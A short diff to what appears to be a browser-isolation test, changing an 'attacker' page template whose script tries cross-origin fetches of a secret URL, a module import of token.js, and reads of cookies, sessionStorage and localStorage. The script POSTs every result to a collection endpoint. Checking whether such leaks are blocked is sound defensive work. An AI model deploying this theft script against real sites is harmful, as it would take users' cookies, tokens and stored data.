@@ -14,15 +14,16 @@ _PAGE = """<!doctype html><title>attacker</title><a id="link" href="{target}">a 
 <iframe src="{target}"></iframe><iframe src="{target}{secret}"></iframe><img src="{target}{secret}">
 <script src="/steal.js"></script><script src="{target}token.js" type="module"></script>"""
 _SCRIPT = """
+const secret = "{target}{secret}";
 const told = (what) => fetch("/told", {{ method: "POST", body: what }});
 const reads = async (name, what) => {{
   try {{ await told(name + ": " + await what()); }} catch (error) {{ await told(name + " failed: " + error); }}
 }};
 (async () => {{
   for (const credentials of ["include", "omit"]) for (const mode of ["cors", "no-cors"]) {{
-    await reads(`${{credentials}} ${{mode}}`, async () => (await fetch("{target}{secret}", {{ credentials, mode }})).text());
+    await reads(`${{credentials}} ${{mode}}`, async () => (await fetch(secret, {{ credentials, mode }})).text());
   }}
-  await reads("header", async () => (await fetch("{target}{secret}", {{ headers: {{ Authorization: "Bearer x" }} }})).text());
+  await reads("header", async () => (await fetch(secret, {{ headers: {{ Authorization: "Bearer x" }} }})).text());
   await reads("import", async () => JSON.stringify(await import("{target}token.js")));
   await reads("cookies", async () => document.cookie);
   await reads("kept", async () => JSON.stringify(sessionStorage) + JSON.stringify(localStorage));
